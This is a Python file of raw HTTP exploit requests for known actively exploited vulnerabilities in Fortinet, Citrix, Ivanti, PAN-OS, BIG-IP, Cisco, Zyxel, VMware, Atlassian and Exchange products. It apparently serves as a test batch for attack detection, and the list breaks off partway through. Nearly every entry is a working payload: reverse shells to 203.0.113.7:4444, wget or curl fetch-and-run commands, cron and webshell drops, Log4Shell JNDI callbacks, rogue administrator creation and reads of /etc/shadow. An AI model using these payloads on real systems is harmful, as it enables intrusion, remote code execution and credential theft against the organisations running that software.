"""Blind attack batch R: exploitation of CISA KEV vulnerabilities over HTTP (2014-2026)."""
from __future__ import annotations

import base64


def _raw(method, path, headers=(), body="", host="target.example", length=True):
    """Build a raw HTTP/1.1 request with CRLF line ends and an accurate Content-Length."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    lines.extend(headers)
    if length and (body or method in ("POST", "PUT")):
        lines.append(f"Content-Length: {len(body.encode('utf-8', 'surrogateescape'))}")
    return "\r\n".join(lines) + "\r\n\r\n" + body


def _b64(text):
    return base64.b64encode(text.encode("utf-8", "surrogateescape")).decode("ascii")


def _mp(parts, boundary="----WebKitFormBoundaryx8Kq2ZrT0cVb1nLm"):
    """Multipart body from (name, filename or None, content-type or None, content) tuples."""
    out = []
    for name, filename, ctype, content in parts:
        disp = f'Content-Disposition: form-data; name="{name}"'
        if filename is not None:
            disp += f'; filename="{filename}"'
        out.append(f"--{boundary}\r\n{disp}\r\n")
        if ctype:
            out.append(f"Content-Type: {ctype}\r\n")
        out.append(f"\r\n{content}\r\n")
    out.append(f"--{boundary}--\r\n")
    return "".join(out)


def _ajp_str(s):
    b = s.encode("latin-1")
    return len(b).to_bytes(2, "big") + b + b"\x00"


def _ajp_forward(uri, query, headers):
    """AJP13 FORWARD_REQUEST packet (POST) as smuggled in CVE-2023-46747."""
    d = b"\x02\x04" + _ajp_str("HTTP/1.1") + _ajp_str(uri) + _ajp_str("127.0.0.1")
    d += _ajp_str("localhost") + _ajp_str("localhost") + (443).to_bytes(2, "big") + b"\x00"
    d += len(headers).to_bytes(2, "big")
    for k, v in headers:
        d += _ajp_str(k) + _ajp_str(v)
    d += b"\x05" + _ajp_str(query) + b"\xff"
    pkt = b"\x12\x34" + len(d).to_bytes(2, "big") + d
    return pkt.decode("utf-8", "surrogateescape")


_AJP = _ajp_forward(
    "/tmui/Control/form",
    "form_page=%2ftmui%2fsystem%2fuser%2fcreate.jsp&form_page_ts=1&systemuser-hidden=[[\"Administrator\",\"[All]\"]]"
    "&systemuser-hidden_before=&name=f5h4x0r&name_before=&passwd=Pwn3d!f5&passwd_before=&finished=x",
    [("Tmui-Dubbuf", "BBBBBBBBBBB"), ("REMOTEROLE", "0"), ("host", "localhost"),
     ("REMOTEUSER", "admin"), ("Content-Type", "application/x-www-form-urlencoded")])


_MPCT = "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryx8Kq2ZrT0cVb1nLm"
_UA = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_JSON = "Content-Type: application/json"

BLIND_ATTACKS_R = [
    # --- Fortinet ---
    ("ptrav", "CVE-2018-13379 FortiOS SSL VPN fgt_lang session file read", "path",
     "", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("generic", "CVE-2022-40684 FortiOS auth bypass via Forwarded/Report Runner", "raw", "",
     _raw("PUT", "/api/v2/cmdb/system/admin/admin",
          ["User-Agent: Report Runner", _JSON,
           'Forwarded: for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";'],
          '{"ssh-public-key1": "\\"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7pwn3d attacker@kali\\""}')),
    ("generic", "CVE-2024-55591 FortiOS Node.js websocket local_access_token bypass", "raw", "",
     _raw("GET", "/ws/cli/open?cols=162&rows=100&local_access_token=watchTowr",
          [_UA, "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
           "Sec-WebSocket-Key: thFz/fKwzu5wDEy0XO3fcw=="])),
    ("sqli", "CVE-2025-25257 FortiWeb Fabric Connector SQLi in Bearer token", "raw", "",
     _raw("GET", "/api/fabric/device/status",
          [_UA, "Authorization: Bearer AAAAAA'/**/or/**/sleep(5)/**/--/**/-'"])),
    ("sqli", "CVE-2025-25257 FortiWeb SQLi INTO OUTFILE webshell via Bearer", "header:Authorization", "",
     "Bearer ';SELECT/**/0x3c3f7068702073797374656d28245f4745545b2763275d293b203f3e/**/"
     "INTO/**/OUTFILE/**/'../../lib/python3.10/site-packages/x.pth'#"),
    ("ptrav", "CVE-2025-64446 FortiWeb path traversal to fwbcgi with CGIINFO admin", "raw", "",
     _raw("POST", "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi",
          [_UA, _JSON, "CGIINFO: " + _b64('{"username":"admin","profname":"prof_admin",'
                                          '"vdom":"root","loginname":"admin"}')],
          '{"data":{"q_type":1,"name":"fwadmin1","access-profile":"prof_admin",'
          '"access-profile_val":"0","trusthostv4":"0.0.0.0/0","password":"P@ssw0rd!1"}}')),
    ("java", "CVE-2022-39952 FortiNAC keyUpload.jsp arbitrary file write zip", "raw", "",
     _raw("POST", "/configWizard/keyUpload.jsp", [_UA, _MPCT],
          _mp([("key", "payload.zip", "application/zip",
                "PK\x03\x04\x14\x00\x00\x00\x00\x00../../../../../etc/cron.d/payload"
                "* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")]))),
    # --- Citrix ---
    ("ptrav", "CVE-2019-19781 Citrix ADC /vpns/ traversal smb.conf probe", "path",
     "", "/vpn/../vpns/cfg/smb.conf"),
    ("rce", "CVE-2019-19781 Citrix ADC newbm.pl Template Toolkit command exec", "raw", "",
     _raw("POST", "/vpn/../vpns/portal/scripts/newbm.pl",
          [_UA, _FORM, "NSC_USER: ../../../netscaler/portal/templates/c0ffee42", "NSC_NONCE: nsroot"],
          "url=http://example.com&title=[%25 template.new({'BLOCK'='print `cat /etc/passwd`'}) %25]"
          "&desc=desc&UI_inuse=RfWeb")),
    ("protocol", "CVE-2023-4966 Citrix Bleed oversized Host header memory leak", "raw", "",
     _raw("GET", "/oauth/idp/.well-known/openid-configuration", [_UA, "Connection: close"],
          host="a" * 24812)),
    ("protocol", "CVE-2025-5777 CitrixBleed 2 doAuthentication login without value", "raw", "",
     _raw("POST", "/p/u/doAuthentication.do", [_UA, _FORM, "Connection: keep-alive"], "login")),
    ("generic", "CVE-2020-8193 Citrix ADC pcidss report session auth bypass", "raw", "",
     _raw("POST", "/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody"
                  "&username=nsroot&set=1",
          [_UA, "Content-Type: application/xml", "X-NITRO-USER: xpyZxwy6", "X-NITRO-PASS: xWXHUJ56"],
          "<appfwprofile><login></login></appfwprofile>")),
    ("ptrav", "CVE-2020-8195 Citrix ADC rapi filedownload /etc/passwd", "path",
     "", "/rapi/filedownload?filter=path:%2Fetc%2Fpasswd"),
    ("protocol", "CVE-2023-3519 Citrix ADC formssso target stack overflow", "path",
     "", "/gwtest/formssso?event=start&target=" + "A" * 600 + "%25x%25x%25x%25x"),
    # --- Ivanti / Pulse Secure ---
    ("ptrav", "CVE-2019-11510 Pulse Secure guacamole traversal /etc/passwd", "path",
     "", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
    ("ptrav", "CVE-2019-11510 Pulse Secure data.mdb session cache read", "path",
     "", "/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb"
         "?/dana/html5acc/guacamole/"),
    ("rce", "CVE-2023-46805+CVE-2024-21887 Ivanti ICS keys-status command injection", "raw", "",
     _raw("GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bpython%20-c%20%27import"
                 "%20socket%2Csubprocess%3Bs%3Dsocket.socket()%3Bs.connect((%22203.0.113.7%22%2C4444))"
                 "%3Bsubprocess.call(%5B%22%2Fbin%2Fsh%22%2C%22-i%22%5D%2Cstdin%3Ds.fileno()%2Cstdout"
                 "%3Ds.fileno())%27%3B", [_UA])),
    ("rce", "CVE-2024-21887 Ivanti ICS cloud-server-test-connection injection", "raw", "",
     _raw("POST", "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection",
          [_UA, _JSON],
          '{"type":";wget -qO- http://203.0.113.7/s.sh|sh;","txtGCPProject":"a","txtGCPSecret":"a",'
          '"txtGCPPath":"a","txtGCPBucket":"a"}')),
    ("xxe", "CVE-2024-22024 Ivanti ICS saml-sso.cgi XXE in base64 SAMLRequest", "raw", "",
     _raw("POST", "/dana-na/auth/saml-sso.cgi", [_UA, _FORM],
          "SAMLRequest=" + _b64('<?xml version="1.0" ?><!DOCTYPE root [<!ENTITY % watchTowr SYSTEM '
                               '"http://cnhq2a0v.oast.fun/x"> %watchTowr;]><r></r>'))),
    ("ssrf", "CVE-2024-21893 Ivanti ICS saml20.ws SSRF via RetrievalMethod", "raw", "",
     _raw("POST", "/dana-ws/saml20.ws", [_UA, "Content-Type: text/xml"],
          '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
          '<soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
          '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
          '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/></ds:SignedInfo>'
          '<ds:SignatureValue>qwerty</ds:SignatureValue><ds:KeyInfo><ds:RetrievalMethod '
          'URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3Bcurl%20203.0.113.7%7Csh%3B"/>'
          '<ds:X509Data/></ds:KeyInfo><ds:Object></ds:Object></ds:Signature></soap:Body></soap:Envelope>')),
    ("protocol", "CVE-2025-22457 Ivanti ICS X-Forwarded-For stack overflow", "raw", "",
     _raw("GET", "/dana-na/auth/url_default/welcome.cgi",
          [_UA, "X-Forwarded-For: " + "1" * 2048])),
    ("generic", "CVE-2023-35078 Ivanti EPMM unauthenticated users API", "path",
     "", "/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1"),
    ("java", "CVE-2025-4427/4428 Ivanti EPMM featureusage format EL injection", "path",
     "", "/api/v2/featureusage?format=${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')"
         ".invoke(null).exec('id')}"),
    ("generic", "CVE-2024-7593 Ivanti vTM wizard.fcgi admin auth bypass", "path",
     "", "/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers"),
    # --- Palo Alto Networks ---
    ("ptrav", "CVE-2024-3400 PAN-OS GlobalProtect SESSID traversal file create", "raw", "",
     _raw("POST", "/ssl-vpn/hipreport.esp",
          [_UA, _FORM, "Cookie: SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/watchtowr.txt;"],
          "")),
    ("rce", "CVE-2024-3400 PAN-OS telemetry SESSID command injection", "cookie",
     "", "SESSID=./../../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${IFS}cq8r1.oast.fun?x=$(id|base64)`"),
    ("generic", "CVE-2024-0012 PAN-OS management X-PAN-AUTHCHECK off bypass", "raw", "",
     _raw("GET", "/php/ztp_gate.php/.js.map", [_UA, "X-PAN-AUTHCHECK: off"])),
    ("rce", "CVE-2024-9474 PAN-OS createRemoteAppwebSession user command injection", "raw", "",
     _raw("POST", "/php/utils/createRemoteAppwebSession.php/watchTowr.js.map",
          [_UA, _FORM, "X-PAN-AUTHCHECK: off"],
          "user=`echo $(uname -a) > /var/appweb/htdocs/unauth/watchTowr.php`&userRole=superuser"
          "&remoteHost=&vsys=vsys1")),
    ("ptrav", "CVE-2025-0108 PAN-OS double-encoded unauth traversal auth bypass", "raw", "",
     _raw("GET", "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", [_UA])),
    ("php", "CVE-2017-15944 PAN-OS cms_changeDeviceContext session injection", "path",
     "", '/esp/cms_changeDeviceContext.esp?device=aaaaa:a%27";user|s."1337";'),
    # --- F5 BIG-IP ---
    ("ptrav", "CVE-2020-5902 BIG-IP TMUI ..; fileRead /etc/passwd", "path",
     "", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
    ("rce", "CVE-2020-5902 BIG-IP TMUI ..; tmshCmd list auth user", "path",
     "", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin"),
    ("generic", "CVE-2022-1388 BIG-IP iControl REST hop-by-hop auth bypass bash", "raw", "",
     _raw("POST", "/mgmt/tm/util/bash",
          [_UA, _JSON, "Connection: keep-alive, X-F5-Auth-Token", "X-F5-Auth-Token: a",
           "Authorization: Basic YWRtaW46"],
          '{"command":"run","utilCmdArgs":"-c \'id; cat /etc/passwd\'"}')),
    ("ssrf", "CVE-2021-22986 BIG-IP authn login loginReference SSRF", "raw", "",
     _raw("POST", "/mgmt/shared/authn/login", [_UA, _JSON],
          '{"bigipAuthCookie":"","username":"admin","loginReference":{"link":"/shared/gossip"},'
          '"userReference":{"link":"https://localhost/mgmt/shared/authz/users/admin"}}')),
    ("protocol", "CVE-2023-46747 BIG-IP TMUI AJP request smuggling user create", "raw", "",
     _raw("POST", "/tmui/login.jsp",
          [_UA, "Transfer-Encoding: chunked, chunked", _FORM],
          format(len(_AJP.encode("utf-8", "surrogateescape")), "x") + "\r\n" + _AJP + "\r\n0\r\n\r\n", length=False)),
    # --- SonicWall ---
    ("generic", "CVE-2024-53704 SonicOS SSLVPN null swap cookie session hijack", "raw", "",
     _raw("GET", "/cgi-bin/sslvpnclient?launchplatform=",
          [_UA, "Cookie: swap=" + base64.b64encode(b"\x00" * 32).decode()])),
    ("sqli", "CVE-2019-7481 SonicWall SRA supportInstaller customerTID SQLi", "raw", "",
     _raw("POST", "/cgi-bin/supportInstaller", [_UA, _FORM],
          "fromEmailInvite=1&customerTID=unused%27+UNION+SELECT+HEX%28id%29%2C0%2C0%2C0%2C0%2C0%2C0%2C0"
          "%2C0%2C0%2C0%2C0%2C0+FROM+Sessions+WHERE+1%3D1--")),
    # --- Cisco ---
    ("generic", "CVE-2023-20198 Cisco IOS XE double-encoded WSMA exec CLI", "raw", "",
     _raw("POST", "/%2577ebui_wsma_HTTP", [_UA, "Content-Type: application/xml"],
          '<?xml version="1.0"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/"><SOAP:Header><wsse:Security '
          'xmlns:wsse="http://schemas.xmlsoap.org/ws/2002/04/secext"><wsse:UsernameToken SOAP:mustUnderstand="false">'
          '<wsse:Username>admin</wsse:Username><wsse:Password>*****</wsse:Password></wsse:UsernameToken>'
          '</wsse:Security></SOAP:Header><SOAP:Body><request correlator="exec1" xmlns="urn:cisco:wsma-config">'
          '<configApply details="all" action-on-fail="rollback"><config-data><cli-config-data-block>'
          'username cisco_tac_admin privilege 15 secret 0 Sup3rS3cret!</cli-config-data-block></config-data>'
          '</configApply></request></SOAP:Body></SOAP:Envelope>')),
    ("scanner", "CVE-2023-20198 Cisco IOS XE BadCandy implant logon_hash check", "raw", "",
     _raw("POST", "/webui/logoutconfirm.html?logon_hash=1", [_UA, _FORM], "")),
    ("rce", "CVE-2023-20273 Cisco IOS XE installAdd ipaddress command injection", "raw", "",
     _raw("POST", "/webui/rest/softwareMgmt/installAdd", [_UA, _JSON, "X-Csrf-Token: 6b3a1a0c"],
          '{"installMethod":"tftp","ipaddress":"4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4:4'
          ':4:4:4:4:$(id>/var/www/x.txt)","operation_type":"SMU","filePath":"test","fileSystem":"flash:"}')),
    ("ptrav", "CVE-2018-0296 Cisco ASA +CSCOU+ traversal session listing", "path",
     "", "/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions"),
    ("ptrav", "CVE-2020-3452 Cisco ASA translation-table file read", "path",
     "", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../"),
    ("ptrav", "CVE-2020-3452 Cisco ASA oem-customization file read", "path",
     "", "/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua"),
    ("generic", "CVE-2019-1653 Cisco RV320 unauthenticated config.exp export", "path",
     "", "/cgi-bin/config.exp"),
    ("rce", "CVE-2019-1652 Cisco RV320 certificate common_name injection", "raw", "",
     _raw("POST", "/certificate_handle2.htm?type=4", [_UA, _FORM, "Cookie: mlap=YWRtaW46OjE="],
          "page=self_generator.htm&totalRules=1&OpenVPNRules=30&submitStatus=1&log_ch=1&type=4&Country=A"
          "&state=A&locality=A&organization=A&organization_unit=A&email=any%40example.com&KeySize=512"
          "&KeyLength=1024&valid_days=30&SelectSubject_c=1&SelectSubject_s=1"
          "&common_name=a%27%24%28wget%20http%3A%2F%2F203.0.113.7%2Fm%20-O%20%2Ftmp%2Fm%3Bsh%20%2Ftmp%2Fm%29%27b")),
    ("rce", "CVE-2021-1497 Cisco HyperFlex storfs-asup token command injection", "raw", "",
     _raw("POST", "/storfs-asup", [_UA, _FORM],
          "action=&token=%60curl%20http%3A%2F%2F203.0.113.7%2Fx%7Cbash%60&mode=%60id%60")),
    ("rce", "CVE-2025-20281 Cisco ISE ERS InternalUser name command injection", "raw", "",
     _raw("POST", "/ers/sdk#_", [_UA, _JSON, "Authorization: Basic YTph"],
          '{"InternalUser":{"name":"pwn\'; bash -c \'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\' & #",'
          '"password":"Pwned123!","changePassword":true}}')),
    # --- Juniper / Zyxel / Check Point ---
    ("php", "CVE-2023-36845 Juniper J-Web PHPRC /dev/fd/0 auto_prepend_file", "raw", "",
     _raw("POST", "/?PHPRC=/dev/fd/0", [_UA, _FORM],
          'auto_prepend_file="/etc/passwd"\nallow_url_include=1')),
    ("php", "CVE-2023-36844 Juniper J-Web webauth_operation do_upload PHP file", "raw", "",
     _raw("POST", "/webauth_operation.php", [_UA, _FORM],
          "rs=do_upload&rsargs[0]=[{\"fileData\":\"data:text/html;base64,"
          + _b64("<?php system($_GET['c']); ?>") + "\",\"fileName\":\"pwn.php\",\"csize\":29}]")),
    ("php", "CVE-2023-36845 Juniper J-Web PHPRC auto_prepend uploaded ini", "path",
     "", "/?PHPRC=/tmp/pwn.ini"),
    ("rce", "CVE-2022-30525 Zyxel USG ztp handler mtu command injection", "raw", "",
     _raw("POST", "/ztp/cgi-bin/handler", [_UA, _JSON],
          '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5",'
          '"mtu":"; bash -c \'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1;\';","data":"hi"}')),
    ("rce", "CVE-2017-18368 Zyxel P660HN ViewLog.asp remote_host injection", "raw", "",
     _raw("POST", "/cgi-bin/ViewLog.asp", ["User-Agent: Mozilla/5.0", _FORM],
          "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
          "&remote_host=%3bcd+/tmp;wget+http://203.0.113.7/bins/mips;chmod+777+mips;./mips+zyxel;%23"
          "&remoteSubmit=Save")),
    ("rce", "CVE-2020-9054 Zyxel NAS weblogin.cgi username injection", "path",
     "", "/adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bcd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.7%2Fz.sh"
         "%3Bsh%20z.sh%20%23&password=asdf"),
    ("ptrav", "CVE-2024-24919 Check Point MyCRL aCSHELL traversal /etc/shadow", "raw", "",
     _raw("POST", "/clients/MyCRL", [_UA, "Content-Type: text/plain"],
          "aCSHELL/../../../../../../../etc/shadow")),
    # --- VMware ---
    ("ssti", "CVE-2022-22954 Workspace ONE Access freemarker deviceUdid", "path",
     "", '/catalog-portal/ui/oauth/verify?error=&deviceUdid=${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}'),
    ("ptrav", "CVE-2021-22005 vCenter analytics telemetry _i traversal file write", "raw", "",
     _raw("POST", "/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/ZN3kqk",
          [_UA, _JSON, "X-Deployment-Secret: abc"],
          '"* * * * * root nc -e /bin/sh 203.0.113.7 4444"')),
    ("java", "CVE-2021-21985 vCenter vSAN proxy setTargetObject unsafe reflection", "raw", "",
     _raw("POST", "/ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject",
          [_UA, _JSON], '{"methodInput":[null]}')),
    ("java", "CVE-2021-21985 vCenter vSAN proxy ClassPathXmlApplicationContext", "raw", "",
     _raw("POST", "/ui/h5-vsan/rest/proxy/service/vmodlContext/loadVmodlPackages",
          [_UA, _JSON],
          '{"methodInput":[["https://203.0.113.7/offline_bundle.xml"]]}')),
    ("rce", "CVE-2023-20887 Aria Operations for Networks thrift createSupportBundle", "raw", "",
     _raw("POST", "/saas./resttosaasservlet", [_UA, "Content-Type: application/x-thrift"],
          '[1,"createSupportBundle",1,0,{"1":{"str":"1111"},"2":{"str":"`sudo bash -c \'bash -i >& '
          '/dev/tcp/203.0.113.7/4444 0>&1\'`"},"3":{"str":"value3"},"4":{"lst":["str",2,"AAAA","BBBB"]}}]')),
    ("ssrf", "CVE-2021-21975 vRealize Operations casa thumbprints SSRF", "raw", "",
     _raw("POST", "/casa/nodes/thumbprints", [_UA, _JSON], '["c4ntl2ov.oast.pro/"]')),
    ("java", "CVE-2021-44228 VMware Horizon Log4Shell via Accept-Language", "raw", "",
     _raw("GET", "/portal/info.jsp",
          [_UA, "Accept-Language: ${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/aWQ=}"])),
    ("java", "CVE-2021-44228 vCenter websso Log4Shell via X-Forwarded-For", "raw", "",
     _raw("GET", "/websso/SAML2/SSO/vsphere.local?SAMLRequest=",
          [_UA, "X-Forwarded-For: ${jndi:${lower:l}${lower:d}ap://203.0.113.7:1389/o=tomcat}"])),
    ("java", "CVE-2021-44228 UniFi Network login remember field Log4Shell", "raw", "",
     _raw("POST", "/api/login", [_UA, _JSON, "Referer: https://target.example:8443/manage/account/login"],
          '{"username":"admin","password":"admin","remember":"${jndi:ldap://203.0.113.7:1389/o=tomcat}",'
          '"strict":true}')),
    # --- Atlassian ---
    ("java", "CVE-2022-26134 Confluence OGNL in URI with response header", "path", "",
     '/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}/'),
    ("java", "CVE-2022-26134 Confluence OGNL Runtime exec curl in URI", "raw", "",
     _raw("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22curl%20http%3A%2F%2F203.0.113.7%2Fx"
                 "%20-o%20%2Ftmp%2Fx%22%29%7D/", [_UA])),
    ("generic", "CVE-2023-22515 Confluence setupComplete reset via server-info", "path",
     "", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
    ("generic", "CVE-2023-22515 Confluence setupadministrator admin creation", "raw", "",
     _raw("POST", "/setup/setupadministrator.action", [_UA, _FORM, "X-Atlassian-Token: no-check"],
          "username=pwned&fullName=pwned&email=pwned%40example.com&password=Pwned!23"
          "&confirm=Pwned!23&setup-next-button=Next")),
    ("generic", "CVE-2023-22518 Confluence setup-restore backup upload", "raw", "",
     _raw("POST", "/json/setup-restore.action", [_UA, _MPCT, "X-Atlassian-Token: no-check"],
          _mp([("buildNumber", None, None, "8703"),
               ("file", "xmlexport-20231109-060519-1.zip", "application/zip",
                "PK\x03\x04\x14\x00\x08\x00\x08\x00entities.xml"),
               ("edit", None, None, "Upload and import")]))),
    ("java", "CVE-2023-22527 Confluence text-inline.vm OGNL via label", "raw", "",
     _raw("POST", "/template/aui/text-inline.vm", [_UA, _FORM],
          "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet"
          "(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027"
          "&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',"
          "(new+freemarker.template.utility.Execute()).exec({\"id\"}))")),
    ("java", "CVE-2021-26084 Confluence createpage-entervariables OGNL", "raw", "",
     _raw("POST", "/pages/createpage-entervariables.action?SpaceKey=x", [_UA, _FORM],
          "queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29"
          ".newInstance%28%29.getEngineByName%28%5cu0027JavaScript%5cu0027%29.%5cu0065val%28%5cu0027"
          "java.lang.Runtime.getRuntime%28%29.exec%28%5cu0022id%5cu0022%29%5cu0027%29%7d%2b%5cu0027")),
    ("java", "CVE-2021-26084 Confluence queryString OGNL arithmetic probe", "form",
     "queryString", "aaaaaaaa\\u0027+{233*233}+\\u0027"),
    ("ptrav", "CVE-2019-3396 Confluence widget connector _template traversal", "raw", "",
     _raw("POST", "/rest/tinymce/1/macro/preview",
          [_UA, _JSON, "Referer: https://target.example/pages/resumedraft.action?draftId=786457"],
          '{"contentId":"786458","macro":{"name":"widget","body":"","params":{"url":'
          '"https://www.viddler.com/v/23464dc6","width":"1000","height":"1000","_template":"../web.xml"}}}')),
    ("rfi", "CVE-2019-3396 Confluence widget connector remote velocity _template", "json",
     "", '{"contentId":"786458","macro":{"name":"widget","body":"","params":{"url":'
         '"https://www.viddler.com/v/23464dc6","width":"1000","height":"1000",'
         '"_template":"ftp://203.0.113.7:2121/cmd.vm","cmd":"id"}}}'),
    ("ssti", "CVE-2019-11581 Jira ContactAdministrators subject template injection", "raw", "",
     _raw("POST", "/secure/ContactAdministrators.jspa", [_UA, _FORM, "X-Atlassian-Token: no-check"],
          "from=a%40example.com&subject=%24i18n.getClass%28%29.forName%28%27java.lang.Runtime%27%29"
          ".getMethod%28%27getRuntime%27%2Cnull%29.invoke%28null%2Cnull%29.exec%28%27curl+203.0.113.7%27%29"
          ".toString%28%29&details=x&atl_token=&Send=Send")),
    ("ptrav", "CVE-2021-26086 Jira /s/ cfx traversal WEB-INF web.xml", "path",
     "", "/s/cfx/_/;/WEB-INF/web.xml"),
    ("ptrav", "CVE-2021-26086 Jira /s/ ;/META-INF pom.properties", "path",
     "", "/s/cfx/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties"),
    ("ssrf", "CVE-2019-8451 Jira gadgets makeRequest userinfo SSRF", "path",
     "", "/plugins/servlet/gadgets/makeRequest?url=https://target.example:443@169.254.169.254/latest/meta-data/"),
    ("rce", "CVE-2022-36804 Bitbucket archive path NUL argument injection", "raw", "",
     _raw("GET", "/rest/api/latest/projects/PROJ/repos/repo1/archive?filename=x&at=x"
                 "&path=x%00--exec=%60curl%20203.0.113.7%2Fb.sh%7Csh%60%00--remote=origin", [_UA])),
    ("java", "CVE-2019-11580 Crowd pdkinstall plugin jar upload", "raw", "",
     _raw("POST", "/crowd/admin/uploadplugin.action", [_UA, "Content-Type: multipart/mixed; boundary=XYZ"],
          "--XYZ\r\nContent-Disposition: form-data; name=\"file_cdl\"; filename=\"rce.jar\"\r\n"
          "Content-Type: application/java-archive\r\n\r\nPK\x03\x04\x14\x00\x08\x00"
          "atlassian-plugin.xml\r\n--XYZ--\r\n")),
    # --- Microsoft Exchange / SharePoint ---
    ("ssrf", "CVE-2021-26855 Exchange ProxyLogon X-BEResource cookie SSRF", "raw", "",
     _raw("POST", "/ecp/y.js",
          [_UA, "Content-Type: text/xml",
           "Cookie: X-BEResource=Administrator@EXCH01.corp.local:444/autodiscover/autodiscover.xml?a=~1942062522;"],
          '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">'
          '<Request><EMailAddress>administrator@corp.local</EMailAddress><AcceptableResponseSchema>'
          'http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a'
          '</AcceptableResponseSchema></Request></Autodiscover>')),
    ("ssrf", "CVE-2021-27065 Exchange OAB ExternalUrl webshell via ProxyLogon", "raw", "",
     _raw("POST", "/ecp/y.js",
          [_UA, "Content-Type: application/json; charset=utf-8",
           "Cookie: X-BEResource=Administrator@EXCH01.corp.local:444/ecp/DDI/DDIService.svc/SetObject?"
           "schema=OABVirtualDirectory&msExchEcpCanary=qVtR1nLw0Ee3&a=~1942062522; "
           "ASP.NET_SessionId=0f5b3a7e-1c2d-4e5f-8a9b-0c1d2e3f4a5b; msExchEcpCanary=qVtR1nLw0Ee3"],
          '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":'
          '"3a1c8f0e-5d2b-4c7a-9e6f-1b2c3d4e5f60"},"properties":{"Parameters":{"__type":'
          '"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","ExternalUrl":'
          '"http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()'
          '{eval(Request[\"exec_code\"],\"unsafe\");}</script>"}}}')),
    ("ssrf", "CVE-2021-34473 Exchange ProxyShell autodiscover Email path confusion", "path",
     "", "/autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"),
    ("ssrf", "CVE-2021-34473 Exchange ProxyShell backend PowerShell endpoint", "path",
     "", "/autodiscover/autodiscover.json?@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBpB"
         "ZG1pbmlzdHJhdG9yQGNvcnAubG9jYWw%3D&Email=autodiscover/autodiscover.json%3F@evil.corp"),
    ("ssrf", "CVE-2022-41040 Exchange ProxyNotShell autodiscover SSRF", "path",
     "", "/autodiscover/autodiscover.json?@evil.corp/owa/&Email=autodiscover/autodiscover.json%3F@evil.corp"
         "&Protocol=XYZ&FooProtocol=%50owershell"),
